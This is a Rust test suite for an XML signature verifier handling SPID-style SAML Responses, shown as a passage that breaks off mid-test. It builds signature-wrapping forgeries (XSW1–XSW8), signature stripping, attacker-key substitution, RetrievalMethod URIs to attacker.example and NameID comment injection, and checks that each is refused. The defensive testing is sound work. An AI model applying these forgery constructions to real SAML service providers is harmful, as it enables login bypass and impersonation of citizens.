//! The attack corpus of the signature layer: one named test per attack class of the SAML
//! security reference (`docs/THREATS.md` maps each class to its history, the check that stops
//! it and these tests).
//!
//! Every malicious document is built from a genuinely signed SPID-style Response: the
//! fixtures in `tests/fixtures/`, signed at run time by the real `xmlsec1` CLI with the test
//! keys in `tests/keys/` (through `tests/support/xmlsec.rs`). Where a test claims that only the
//! profile stops an attack (algorithms, references, transforms), the variant is signed by
//! `xmlsec1` and `xmlsec1 --verify` is asked to confirm that it is cryptographically valid.
//!
//! Consumer model for wrapping attacks (the SAML layer does not exist yet): the application
//! consumes `Verified::element()` and nothing else. [`consume_all`] therefore verifies every
//! element a SAML layer could pick (every `Assertion`, every `Response`, every element with an
//! `ID`) and requires each success to be byte-identical, in canonical form, to the element with
//! the same ID in the untouched signed document, and free of the attacker's values.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::fs;
use std::ops::Range;
use std::path::PathBuf;
use std::process::Command;
use std::sync::OnceLock;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Instant;

use base64::Engine as _;
use saml_xml::{Document, Element, Limits, c14n};
use support::xmlsec::{
    self as ox, ASSERTION, ASSERTION_ID, Key, RESPONSE, RESPONSE_ID, SAML_NS, SAMLP_NS, alg,
    fixture,
};
use xmldsig::{DSIG_NS, Policy, SignatureMethod, TrustedKey, verify};

const AID: &str = ASSERTION_ID;
const RID: &str = RESPONSE_ID;
const EVIL_AID: &str = "_evil_assertion_ID";
const EVIL_RID: &str = "_evil_response_ID";

/// Values the attacker wants the application to read.
const FISCAL: &str = "TINIT-RSSMRA80A01H501U";
const EVIL_FISCAL: &str = "TINIT-VLNTTK66A01F205X";
const NAMEID: &str = "_e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0";
const EVIL_NAMEID: &str = "_attacker_chosen_name_id";

const INCLUSIVE_C14N: &str = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
const C14N11: &str = "http://www.w3.org/2006/12/xml-c14n11";
const EXC_TRANSFORM: &str =
    r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#;
const ENV_TRANSFORM: &str =
    r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>"#;

// === Signed inputs, made once per test binary ===

/// Response and Assertion both signed by the IdP (`idp-rsa2048`), RSA-SHA256 / SHA-256.
fn both() -> &'static str {
    static S: OnceLock<String> = OnceLock::new();
    S.get_or_init(|| ox::sign_response_and_assertion(&fixture("response-spid.xml"), Key::Rsa2048))
}

/// Only the Assertion signed (the SPID minimum).
fn assertion_only() -> &'static str {
    static S: OnceLock<String> = OnceLock::new();
    S.get_or_init(|| signed_variant(Key::Rsa2048, str::to_owned))
}

/// The assertion-only fixture after `edit`, signed by xmlsec1 with `key`.
fn signed_variant(key: Key, edit: impl FnOnce(&str) -> String) -> String {
    let template = edit(&fixture("response-spid-assertion-only.xml"));
    ox::sign(&template, key, &[RESPONSE, ASSERTION])
}

fn trusted(key: Key) -> TrustedKey {
    TrustedKey::from_certificate_pem(&fs::read(key.cert_pem()).unwrap()).unwrap()
}

/// What configuration trusts: the IdP's certificate, nothing else.
fn idp_keys() -> &'static [TrustedKey] {
    static K: OnceLock<Vec<TrustedKey>> = OnceLock::new();
    K.get_or_init(|| vec![trusted(Key::Rsa2048)])
}

// === Small tree and string helpers ===

fn parse(xml: &str) -> Result<Document<'_>, saml_xml::Error> {
    Document::parse(xml.as_bytes(), &Limits::default())
}

fn parse_code(xml: &str) -> &'static str {
    match parse(xml) {
        Ok(_) => "ok",
        Err(e) => e.code(),
    }
}

fn outcome<T>(r: Result<T, xmldsig::Error>) -> &'static str {
    match r {
        Ok(_) => "ok",
        Err(e) => e.code(),
    }
}

/// Parse, then verify the element with this ID against the IdP key: "ok" or the error code
/// (a parser code when the document does not even parse).
fn verify_code(xml: &str, id: &str) -> &'static str {
    verify_code_with(xml, id, idp_keys(), &Policy::default())
}

fn verify_code_with(xml: &str, id: &str, keys: &[TrustedKey], policy: &Policy) -> &'static str {
    let doc = match parse(xml) {
        Ok(d) => d,
        Err(e) => return e.code(),
    };
    let el = doc
        .element_by_id(id)
        .unwrap_or_else(|| panic!("no element with ID {id}"));
    outcome(verify(el, keys, policy))
}

fn child<'d, 'a>(el: Element<'d, 'a>, ns: &str, local: &str) -> Option<Element<'d, 'a>> {
    el.child_elements().find(|c| c.is(ns, local))
}

fn walk<'d, 'a>(el: Element<'d, 'a>, out: &mut Vec<Element<'d, 'a>>) {
    out.push(el);
    for c in el.child_elements() {
        walk(c, out);
    }
}

/// The element and all its descendant elements, in document order.
fn elements<'d, 'a>(el: Element<'d, 'a>) -> Vec<Element<'d, 'a>> {
    let mut out = Vec::new();
    walk(el, &mut out);
    out
}

fn descendant<'d, 'a>(el: Element<'d, 'a>, ns: &str, local: &str) -> Option<Element<'d, 'a>> {
    elements(el).into_iter().skip(1).find(|e| e.is(ns, local))
}

fn path(el: Element<'_, '_>) -> String {
    let mut names = vec![el.local_name()];
    let mut at = el;
    while let Some(p) = at.parent() {
        names.push(p.local_name());
        at = p;
    }
    names.reverse();
    format!("/{}", names.join("/"))
}

fn canon(el: Element<'_, '_>) -> Vec<u8> {
    let mut out = Vec::new();
    c14n::canonicalize(el, &c14n::Options::default(), &mut out).unwrap();
    out
}

/// What an application could read from an element: every element's expanded name, its
/// attributes and its text, in document order; `ds:Signature` subtrees left out.
fn meaning(el: Element<'_, '_>) -> Vec<String> {
    let all = elements(el);
    let signatures: Vec<_> = all.iter().filter(|e| e.is(DSIG_NS, "Signature")).collect();
    let mut out = Vec::new();
    for e in &all {
        if signatures.iter().any(|s| s.contains(e.node_id())) {
            continue;
        }
        let mut attrs: Vec<String> = e
            .attributes()
            .map(|(ns, l, v)| format!("{{{}}}{l}={v:?}", ns.unwrap_or("")))
            .collect();
        attrs.sort();
        out.push(format!(
            "{{{}}}{} {attrs:?} {:?}",
            e.namespace().unwrap_or(""),
            e.local_name(),
            e.text().trim()
        ));
    }
    out
}

/// Span of the element with this ID.
fn el_span(xml: &str, id: &str) -> Range<usize> {
    parse(xml).unwrap().element_by_id(id).unwrap().span()
}

/// Span of the `ds:Signature` child of the element with this ID.
fn sig_span(xml: &str, id: &str) -> Range<usize> {
    let doc = parse(xml).unwrap();
    child(doc.element_by_id(id).unwrap(), DSIG_NS, "Signature")
        .unwrap()
        .span()
}

/// Where content can be appended to the element with this ID (just before its end tag).
fn inner_end(xml: &str, id: &str) -> usize {
    parse(xml)
        .unwrap()
        .element_by_id(id)
        .unwrap()
        .content_span()
        .end
}

/// Just before `</ds:Signature>` of the element with this ID.
fn sig_inner_end(xml: &str, id: &str) -> usize {
    let doc = parse(xml).unwrap();
    child(doc.element_by_id(id).unwrap(), DSIG_NS, "Signature")
        .unwrap()
        .content_span()
        .end
}

/// Span of the first `ds:<local>` inside the signature of the element with this ID.
fn sig_part(xml: &str, id: &str, local: &str) -> Range<usize> {
    let doc = parse(xml).unwrap();
    let sig = child(doc.element_by_id(id).unwrap(), DSIG_NS, "Signature").unwrap();
    descendant(sig, DSIG_NS, local).unwrap().span()
}

/// Span of the first `saml:<local>` inside the element with this ID.
fn saml_part(xml: &str, id: &str, local: &str) -> Range<usize> {
    let doc = parse(xml).unwrap();
    descendant(doc.element_by_id(id).unwrap(), SAML_NS, local)
        .unwrap()
        .span()
}

fn splice(xml: &str, r: Range<usize>, with: &str) -> String {
    format!("{}{with}{}", &xml[..r.start], &xml[r.end..])
}

fn insert(xml: &str, at: usize, what: &str) -> String {
    splice(xml, at..at, what)
}

fn remove(xml: &str, r: Range<usize>) -> String {
    splice(xml, r, "")
}

/// `s` with `from` replaced by `to`; `from` must occur exactly once.
fn one(s: &str, from: &str, to: &str) -> String {
    assert_eq!(s.matches(from).count(), 1, "{from:?} must occur once");
    s.replacen(from, to, 1)
}

fn set_id(s: &str, old: &str, new: &str) -> String {
    let from = format!("ID=\"{old}\"");
    assert!(s.contains(&from), "no {from}");
    s.replacen(&from, &format!("ID=\"{new}\""), 1)
}

/// The attacker's edit (SAML Raider's "match and replace"): another fiscal number and NameID.
fn evil(s: &str) -> String {
    s.replace(FISCAL, EVIL_FISCAL).replace(NAMEID, EVIL_NAMEID)
}

/// The Assertion of `xml` with its `ds:Signature` cut out ("clean copy": it still matches the
/// digest, since the enveloped transform removes the signature anyway).
fn assertion_without_signature(xml: &str) -> String {
    let a = el_span(xml, AID);
    let s = sig_span(xml, AID);
    format!("{}{}", &xml[a.start..s.start], &xml[s.end..a.end])
}

/// The consumer model: verifies every element a SAML layer might pick (each `Assertion`,
/// each `Response`, each element with an `ID`), in document order, and returns
/// `(ID or path, "ok" | error code)`. Every success is checked to point at an element whose
/// canonical form equals that of the element with the same ID in `original`, without any of
/// the attacker's values. `Err` is the parser's code when the document is refused outright.
fn consume_all(xml: &str, original: &str) -> Result<Vec<(String, &'static str)>, &'static str> {
    let doc = parse(xml).map_err(|e| e.code())?;
    let orig = parse(original).unwrap();
    let mut out = Vec::new();
    for el in elements(doc.root()) {
        let id = el.attribute("ID");
        if id.is_none() && !matches!(el.local_name(), "Assertion" | "Response") {
            continue;
        }
        let label = id.map_or_else(|| path(el), str::to_owned);
        match verify(el, idp_keys(), &Policy::default()) {
            Err(e) => out.push((label, e.code())),
            Ok(v) => {
                assert_eq!(v.element(), el);
                let want = orig.element_by_id(id.unwrap()).unwrap_or_else(|| {
                    panic!("{label}: verified, but the original has no such ID")
                });
                let got = canon(v.element());
                assert_eq!(
                    String::from_utf8_lossy(&got),
                    String::from_utf8_lossy(&canon(want)),
                    "{label}: Verified points at an element that is not the original signed one"
                );
                let text = String::from_utf8_lossy(&got);
                assert!(
                    !text.contains(EVIL_FISCAL) && !text.contains(EVIL_NAMEID),
                    "{label}: the verified element carries the attacker's values"
                );
                out.push((label, "ok"));
            }
        }
    }
    Ok(out)
}

fn expect(list: &[(&str, &'static str)]) -> Result<Vec<(String, &'static str)>, &'static str> {
    Ok(list.iter().map(|&(l, c)| (l.to_owned(), c)).collect())
}

// === Direct xmlsec1 runs the support module does not offer (HMAC keys, empty URIs) ===

struct TempDir(PathBuf);

impl TempDir {
    fn new() -> TempDir {
        static SEQ: AtomicU64 = AtomicU64::new(0);
        let n = SEQ.fetch_add(1, Ordering::Relaxed);
        let dir = std::env::temp_dir().join(format!("varco-attacks-{}-{n}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir(&dir).unwrap();
        TempDir(dir)
    }
    fn write(&self, name: &str, contents: &[u8]) -> PathBuf {
        let p = self.0.join(name);
        fs::write(&p, contents).unwrap();
        p
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn id_attr_args() -> Vec<OsString> {
    let mut args = Vec::new();
    for (local, ns) in [RESPONSE, ASSERTION] {
        args.push("--id-attr:ID".into());
        args.push(format!("{ns}:{local}").into());
    }
    args
}

/// `xmlsec1 --verify` of the signature under `node_id` with `key_args`, empty and
/// same-document URIs enabled, the document's own key data ignored.
fn xmlsec1_accepts(xml: &str, key_args: &[OsString], node_id: &str) -> bool {
    let dir = TempDir::new();
    let input = dir.write("in.xml", xml.as_bytes());
    let mut args: Vec<OsString> = vec![
        "--verify".into(),
        "--enabled-reference-uris".into(),
        "empty,same-doc".into(),
        "--enabled-key-data".into(),
        "key-name".into(),
    ];
    args.extend_from_slice(key_args);
    args.extend(id_attr_args());
    args.extend(["--node-id".into(), node_id.into(), input.into()]);
    let out = Command::new(ox::xmlsec1()).args(&args).output().unwrap();
    out.status.success()
        && String::from_utf8_lossy(&out.stderr)
            .lines()
            .any(|l| l.trim() == "OK")
}

fn cert_args(key: Key) -> Vec<OsString> {
    vec!["--pubkey-cert-pem".into(), key.cert_pem().into()]
}

/// Asserts that xmlsec1 finds the Assertion's signature cryptographically valid with the
/// IdP's certificate: whatever `verify` refuses in it, it refuses by profile, not by chance.
fn assert_genuine(xml: &str) {
    assert!(
        xmlsec1_accepts(xml, &cert_args(Key::Rsa2048), AID),
        "xmlsec1 does not accept the variant: the test would not isolate one defect"
    );
}

/// Signs the first signature template with an HMAC key (xmlsec1 `--hmackey`).
fn xmlsec1_sign_hmac(template: &str, hmac_key: &[u8]) -> String {
    let dir = TempDir::new();
    let input = dir.write("in.xml", template.as_bytes());
    let key = dir.write("hmac.key", hmac_key);
    let output = dir.0.join("out.xml");
    let mut args: Vec<OsString> = vec!["--sign".into(), "--hmackey".into(), key.into()];
    args.extend(id_attr_args());
    args.extend(["--output".into(), output.clone().into(), input.into()]);
    let out = Command::new(ox::xmlsec1()).args(&args).output().unwrap();
    assert!(
        out.status.success(),
        "xmlsec1 HMAC signing failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    fs::read_to_string(output).unwrap()
}

// === A1. XML Signature Wrapping: SAML Raider's XSW1..XSW8 ===
//
// Each test builds the faithful SAML Raider permutation (which repeats an ID and is refused
// by the parser) and, where that applies, the variant an attacker would try next: the same
// shape with the repeated ID renamed or dropped, so the verifier itself must stop it.

#[test]
fn xsw1_response_clone_inside_signature() {
    let s = both();
    let r = el_span(s, RID);
    let sr = sig_span(s, RID);
    // Clean clone of the Response without its signature; it still contains the signed Assertion.
    let clone = format!("{}{}", &s[r.start..sr.start], &s[sr.end..r.end]);
    let at = sig_inner_end(s, RID);
    let head = set_id(&s[..at], RID, EVIL_RID);

    let faithful = format!("{head}{clone}{}", evil(&s[at..]));
    assert_eq!(consume_all(&faithful, s), Err("xml_duplicate_id"));

    // The outer Assertion renamed too, so every ID is unique: now the verifier decides.
    let unique = format!("{head}{clone}{}", set_id(&evil(&s[at..]), AID, EVIL_AID));
    // Rejected: the evil outer Response (its Signature has a 4th child) and the evil outer
    // Assertion (Reference names another ID). Verified: only the untouched Assertion in the
    // clone, so the application never reads the attacker's copy.
    assert_eq!(
        consume_all(&unique, s),
        expect(&[
            (EVIL_RID, "dsig_unexpected_structure"),
            (RID, "dsig_unsigned"),
            (AID, "ok"),
            (EVIL_AID, "dsig_reference_uri_mismatch"),
        ])
    );
}

#[test]
fn xsw2_response_clone_before_signature() {
    let s = both();
    let r = el_span(s, RID);
    let sr = sig_span(s, RID);
    let clone = format!("{}{}", &s[r.start..sr.start], &s[sr.end..r.end]);
    let head = set_id(&s[..sr.start], RID, EVIL_RID);
    let tail = evil(&s[sr.start..]);

    let faithful = format!("{head}{clone}{tail}");
    assert_eq!(consume_all(&faithful, s), Err("xml_duplicate_id"));

    let unique = format!("{head}{clone}{}", set_id(&tail, AID, EVIL_AID));
    // Rejected: evil Response (its signature names the clone's ID), evil Assertion. Verified:
    // only the untouched Assertion inside the clone.
    assert_eq!(
        consume_all(&unique, s),
        expect(&[
            (EVIL_RID, "dsig_reference_uri_mismatch"),
            (RID, "dsig_unsigned"),
            (AID, "ok"),
            (EVIL_AID, "dsig_reference_uri_mismatch"),
        ])
    );
}

/// The bases for the Assertion-signed permutations: (document, what the Response's own
/// verification gives after the attack). SPID requires only the Assertion signature; when the
/// Response is signed too, its digest covers the whole edit.
fn assertion_bases() -> [(&'static str, &'static str); 2] {
    [
        (assertion_only(), "dsig_unsigned"),
        (both(), "dsig_digest_mismatch"),
    ]
}

#[test]
fn xsw3_evil_assertion_before_signed_one() {
    for (s, resp) in assertion_bases() {
        let evil_copy = set_id(&evil(&assertion_without_signature(s)), AID, EVIL_AID);
        let x = insert(s, el_span(s, AID).start, &evil_copy);
        // The evil first Assertion is unsigned; what verifies is the untouched original.
        assert_eq!(
            consume_all(&x, s),
            expect(&[(RID, resp), (EVIL_AID, "dsig_unsigned"), (AID, "ok")])
        );
    }
}

#[test]
fn xsw4_signed_assertion_nested_in_evil_one() {
    for (s, resp) in assertion_bases() {
        let a = el_span(s, AID);
        let evil_copy = set_id(&evil(&assertion_without_signature(s)), AID, EVIL_AID);
        let close = evil_copy.rfind("</saml:Assertion>").unwrap();
        let wrapper = format!(
            "{}{}{}",
            &evil_copy[..close],
            &s[a.clone()],
            &evil_copy[close..]
        );
        let end = inner_end(s, RID);
        let x = format!("{}{}{wrapper}{}", &s[..a.start], &s[a.end..end], &s[end..]);
        // The evil wrapper's only signature is its grandchild: unsigned. The nested original
        // verifies, untouched.
        assert_eq!(
            consume_all(&x, s),
            expect(&[(RID, resp), (EVIL_AID, "dsig_unsigned"), (AID, "ok")])
        );
    }
}

#[test]
fn xsw5_evil_assertion_keeps_signature_clean_copy_appended() {
    for (s, resp) in assertion_bases() {
        let a = el_span(s, AID);
        let clean = assertion_without_signature(s);
        let evil_in_place = set_id(&evil(&s[a.clone()]), AID, EVIL_AID);
        let end = inner_end(s, RID);
        let x = format!(
            "{}{evil_in_place}{}{clean}{}",
            &s[..a.start],
            &s[a.end..end],
            &s[end..]
        );
        // The signature now sits in an element whose ID it does not name; the clean copy has
        // no signature. Nothing verifies.
        assert_eq!(
            consume_all(&x, s),
            expect(&[
                (RID, resp),
                (EVIL_AID, "dsig_reference_uri_mismatch"),
                (AID, "dsig_unsigned"),
            ])
        );
    }
}

#[test]
fn xsw6_clean_copy_inside_evil_assertions_signature() {
    for (s, resp) in assertion_bases() {
        let a = el_span(s, AID);
        let clean = assertion_without_signature(s);
        let at = sig_inner_end(s, AID);
        let x = format!(
            "{}{}{clean}{}{}",
            &s[..a.start],
            set_id(&s[a.start..at], AID, EVIL_AID),
            evil(&s[at..a.end]),
            &s[a.end..]
        );
        // ds:Signature with a fourth child is refused before any reference is resolved.
        assert_eq!(
            consume_all(&x, s),
            expect(&[
                (RID, resp),
                (EVIL_AID, "dsig_unexpected_structure"),
                (AID, "dsig_unsigned"),
            ])
        );
    }
}

#[test]
fn xsw7_evil_copy_in_extensions() {
    for (s, resp) in assertion_bases() {
        let a = el_span(s, AID);
        let copy = evil(&assertion_without_signature(s));
        // SAML Raider: `<Extensions>` (no namespace) before the Assertion, evil copy, same ID.
        let faithful = insert(s, a.start, &format!("<Extensions>{copy}</Extensions>"));
        assert_eq!(consume_all(&faithful, s), Err("xml_duplicate_id"));

        // The attacker drops the ID so the parser has nothing to compare: a consumer that took
        // "the first Assertion" would read it, but only the original verifies.
        let no_id = copy.replacen(&format!(" ID=\"{AID}\""), "", 1);
        let x = insert(s, a.start, &format!("<Extensions>{no_id}</Extensions>"));
        assert_eq!(
            consume_all(&x, s),
            expect(&[
                (RID, resp),
                ("/Response/Extensions/Assertion", "dsig_missing_id"),
                (AID, "ok"),
            ])
        );
    }
}

#[test]
fn xsw8_assertion_copy_in_signature_object() {
    for (s, resp) in assertion_bases() {
        let a = el_span(s, AID);
        let clean = assertion_without_signature(s);
        let at = sig_inner_end(s, AID);
        let build = |object: &str, inner: &str| {
            let close = object.replace('<', "</");
            format!(
                "{}{object}{inner}{close}{}{}",
                &s[..at],
                evil(&s[at..a.end]),
                &s[a.end..]
            )
        };
        // SAML Raider: the evil Assertion keeps its ID and its Signature, whose new
        // `<Object>` holds the clean copy with the same ID.
        assert_eq!(
            consume_all(&build("<Object>", &clean), s),
            Err("xml_duplicate_id")
        );
        // Without the repeated ID, with a namespace-less or a real ds:Object: the signature
        // has a fourth child and is refused; the copy has no ID to be referenced by.
        let no_id = clean.replacen(&format!(" ID=\"{AID}\""), "", 1);
        for (object, path) in [
            ("<Object>", "/Response/Assertion/Signature/Object/Assertion"),
            (
                "<ds:Object>",
                "/Response/Assertion/Signature/Object/Assertion",
            ),
        ] {
            assert_eq!(
                consume_all(&build(object, &no_id), s),
                expect(&[
                    (RID, resp),
                    (AID, "dsig_unexpected_structure"),
                    (path, "dsig_missing_id"),
                ]),
                "{object}"
            );
        }
    }
}

// === A2. Signature exclusion ===

#[test]
fn signature_exclusion_unsigned_assertion_is_rejected() {
    // The Assertion's signature stripped from a genuinely signed assertion-only Response.
    let s = assertion_only();
    let x = remove(s, sig_span(s, AID));
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");
    assert_eq!(verify_code(&x, RID), "dsig_unsigned");

    // Both signed; only the Assertion's stripped: the Response digest covers the stripping.
    let s = both();
    let x = remove(s, sig_span(s, AID));
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");
    assert_eq!(verify_code(&x, RID), "dsig_digest_mismatch");

    // Both stripped and the content edited: nothing verifies.
    let x = evil(&remove(&remove(s, sig_span(s, AID)), sig_span(s, RID)));
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");
    assert_eq!(verify_code(&x, RID), "dsig_unsigned");

    // The unsigned template itself.
    let t = fixture("response-spid.xml");
    let t = remove(&remove(&t, sig_span(&t, AID)), sig_span(&t, RID));
    assert_eq!(verify_code(&t, AID), "dsig_unsigned");
}

#[test]
fn signature_removed_but_keyinfo_left() {
    let s = assertion_only();
    let sig = sig_span(s, AID);
    let key_info = &s[sig_part(s, AID, "KeyInfo")];

    // ds:Signature holding only KeyInfo.
    let x = splice(
        s,
        sig.clone(),
        &format!("<ds:Signature>{key_info}</ds:Signature>"),
    );
    assert_eq!(verify_code(&x, AID), "dsig_unexpected_structure");
    // KeyInfo left directly in the Assertion, no Signature at all.
    let x = splice(s, sig, key_info);
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");
    // SignatureValue removed, SignedInfo and KeyInfo left.
    let x = remove(s, sig_part(s, AID, "SignatureValue"));
    assert_eq!(verify_code(&x, AID), "dsig_unexpected_structure");
    // SignatureValue emptied.
    let sv = sig_part(s, AID, "SignatureValue");
    let x = splice(s, sv, "<ds:SignatureValue></ds:SignatureValue>");
    assert_eq!(verify_code(&x, AID), "dsig_bad_signature");
    // SignedInfo removed.
    let x = remove(s, sig_part(s, AID, "SignedInfo"));
    assert_eq!(verify_code(&x, AID), "dsig_unexpected_structure");
}

// === A3. KeyInfo: key substitution and key injection ===

#[test]
fn keyinfo_key_substitution_attacker_cert_is_rejected() {
    // The attacker edits the Assertion and re-signs it with their own key; xmlsec1 embeds
    // the attacker's certificate in KeyInfo.
    let x = signed_variant(Key::Attacker, evil);
    assert!(
        xmlsec1_accepts(&x, &cert_args(Key::Attacker), AID),
        "genuinely signed by the attacker"
    );
    assert_eq!(verify_code(&x, AID), "dsig_untrusted_key_info");
    // Without KeyInfo the configured key is tried, and fails.
    let no_ki = remove(&x, sig_part(&x, AID, "KeyInfo"));
    assert_eq!(verify_code(&no_ki, AID), "dsig_bad_signature");
    // With the IdP's own certificate pasted into KeyInfo: same.
    let s = assertion_only();
    let idp_ki = &s[sig_part(s, AID, "KeyInfo")];
    let pasted = splice(&x, sig_part(&x, AID, "KeyInfo"), idp_ki);
    assert_eq!(verify_code(&pasted, AID), "dsig_bad_signature");
    // Trusting the attacker's key is the only way to accept it.
    let attacker = [trusted(Key::Attacker)];
    assert_eq!(
        verify_code_with(&x, AID, &attacker, &Policy::default()),
        "ok"
    );
}

#[test]
fn keyinfo_cannot_add_a_key() {
    use x509_parser::prelude::{FromDer, X509Certificate};
    use x509_parser::public_key::PublicKey;

    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let attacker_der = fs::read(Key::Attacker.cert_der()).unwrap();
    let idp_der = fs::read(Key::Rsa2048.cert_der()).unwrap();
    let (_, cert) = X509Certificate::from_der(&attacker_der).unwrap();
    let PublicKey::RSA(rsa) = cert.public_key().parsed().unwrap() else {
        panic!("attacker key is RSA");
    };
    let key_value = format!(
        "<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{}</ds:Modulus>\
         <ds:Exponent>{}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>",
        b64(rsa.modulus),
        b64(rsa.exponent)
    );

    let x = signed_variant(Key::Attacker, evil);
    let ki = sig_part(&x, AID, "KeyInfo");
    // The attacker's bare public key (RSAKeyValue): ignored, the configured key decides.
    assert_eq!(
        verify_code(&splice(&x, ki.clone(), &key_value), AID),
        "dsig_bad_signature"
    );
    // An empty X509Certificate names no key: the configured key decides, and fails.
    let empty = "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>\n</ds:X509Certificate>\
                 </ds:X509Data></ds:KeyInfo>";
    assert_eq!(
        verify_code(&splice(&x, ki.clone(), empty), AID),
        "dsig_bad_signature"
    );
    // A KeyName: ignored likewise.
    let key_name = "<ds:KeyInfo><ds:KeyName>idp-rsa2048</ds:KeyName></ds:KeyInfo>";
    assert_eq!(
        verify_code(&splice(&x, ki.clone(), key_name), AID),
        "dsig_bad_signature"
    );
    // Two certificates, the trusted one first, hoping "any of them" is used.
    let two = format!(
        "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate>\
         <ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>",
        b64(&idp_der),
        b64(&attacker_der)
    );
    assert_eq!(
        verify_code(&splice(&x, ki.clone(), &two), AID),
        "dsig_unexpected_structure"
    );
    let two_data = format!(
        "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data>\
         <ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>",
        b64(&idp_der),
        b64(&attacker_der)
    );
    assert_eq!(
        verify_code(&splice(&x, ki, &two_data), AID),
        "dsig_unexpected_structure"
    );
    // And the other way round: a genuine IdP signature whose KeyInfo names the attacker's
    // certificate is refused too. KeyInfo can only narrow the configured keys.
    let s = assertion_only();
    let attacker_ki = &x[sig_part(&x, AID, "KeyInfo")];
    let y = splice(s, sig_part(s, AID, "KeyInfo"), attacker_ki);
    assert_eq!(verify_code(&y, AID), "dsig_untrusted_key_info");
    // With both keys trusted, KeyInfo picks the attacker's, and the IdP's signature fails.
    let both_keys = [trusted(Key::Rsa2048), trusted(Key::Attacker)];
    assert_eq!(
        verify_code_with(&y, AID, &both_keys, &Policy::default()),
        "dsig_bad_signature"
    );
}

#[test]
fn keyinfo_retrieval_method_is_rejected() {
    let s = assertion_only();
    let ki = sig_part(s, AID, "KeyInfo");
    let retrieval = r#"<ds:RetrievalMethod URI="http://attacker.example/idp.cer" Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate"/>"#;
    // Alone, after the genuine X509Data, and same-document.
    let x509 = &s[sig_part(s, AID, "X509Data")];
    for key_info in [
        format!("<ds:KeyInfo>{retrieval}</ds:KeyInfo>"),
        format!("<ds:KeyInfo>{x509}{retrieval}</ds:KeyInfo>"),
        format!(r##"<ds:KeyInfo>{x509}<ds:RetrievalMethod URI="#{RID}"/></ds:KeyInfo>"##),
    ] {
        let x = splice(s, ki.clone(), &key_info);
        assert_eq!(
            verify_code(&x, AID),
            "dsig_unexpected_structure",
            "{key_info}"
        );
    }
    // Other key material that makes verifiers fetch or derive keys: refused the same way.
    for key_info in [
        r#"<ds:KeyInfo><xenc:EncryptedKey xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></ds:KeyInfo>"#,
        r#"<ds:KeyInfo><ds:X509Data><xx:Url xmlns:xx="urn:x">http://attacker.example/c</xx:Url></ds:X509Data></ds:KeyInfo>"#,
        "<ds:KeyInfo><ds:MgmtData>secret</ds:MgmtData></ds:KeyInfo>",
    ] {
        let x = splice(s, ki.clone(), key_info);
        assert_eq!(
            verify_code(&x, AID),
            "dsig_unexpected_structure",
            "{key_info}"
        );
    }
}

// === A4. Comment injection ===

#[test]
fn comment_injection_in_nameid_keeps_signature_valid_and_text_whole() {
    // The classic (Duo, 2018): the attacker registers victim@example.org.attacker.example; the
    // honest IdP signs it; the attacker cuts it with a comment after victim@example.org.
    const REGISTERED: &str = "victim@example.org.attacker.example";
    let signed = signed_variant(Key::Rsa2048, |t| {
        one(t, NAMEID, REGISTERED).replace("mario.rossi@example.org", REGISTERED)
    });
    assert_eq!(verify_code(&signed, AID), "ok");

    let cut = "victim@example.org<!---->.attacker.example";
    let cdata = "victim@example.org<![CDATA[.attacker]]>.example";
    let cut_in_cdata = "<![CDATA[victim@example.org]]><!-- x -->.attacker.example";
    for injected in [cut, cdata, cut_in_cdata] {
        let x = signed.replace(REGISTERED, injected);
        let doc = parse(&x).unwrap();
        let v = verify(
            doc.element_by_id(AID).unwrap(),
            idp_keys(),
            &Policy::default(),
        )
        .unwrap_or_else(|e| panic!("{injected}: exc-c14n drops comments, must verify: {e}"));
        let name_id = descendant(v.element(), SAML_NS, "NameID").unwrap();
        assert_eq!(name_id.text(), REGISTERED, "{injected}");
        let emails: Vec<_> = elements(v.element())
            .into_iter()
            .filter(|e| e.is(SAML_NS, "AttributeValue") && e.text().starts_with("victim@"))
            .map(|e| e.text().into_owned())
            .collect();
        assert_eq!(emails, [REGISTERED], "{injected}");
        // The SAML layer can also refuse any comment outright.
        assert_eq!(
            v.element().has_comments_or_pis(),
            injected.contains("<!--"),
            "{injected}"
        );
    }
    // A processing instruction is not dropped by exc-c14n: the digest catches it.
    let x = signed.replacen(REGISTERED, "victim@example.org<?x?>.attacker.example", 1);
    assert_eq!(verify_code(&x, AID), "dsig_digest_mismatch");
}

// === A5 / A17. Parser-level refusals on a signed Response ===

#[test]
fn duplicate_ids_are_rejected_at_parse() {
    let s = assertion_only();
    let a = el_span(s, AID);
    // An unsigned evil copy with the same ID, after or before the signed one.
    let copy = evil(&assertion_without_signature(s));
    assert_eq!(parse_code(&insert(s, a.end, &copy)), "xml_duplicate_id");
    assert_eq!(parse_code(&insert(s, a.start, &copy)), "xml_duplicate_id");
    // The same value under another identifier spelling, anywhere.
    for attr in ["ID", "Id", "id", "xml:id"] {
        let tag = format!("<saml:Subject {attr}=\"{AID}\">");
        let x = one(s, "<saml:Subject>", &tag);
        assert_eq!(parse_code(&x), "xml_duplicate_id", "{attr}");
    }
    // The Response's ID on the Assertion.
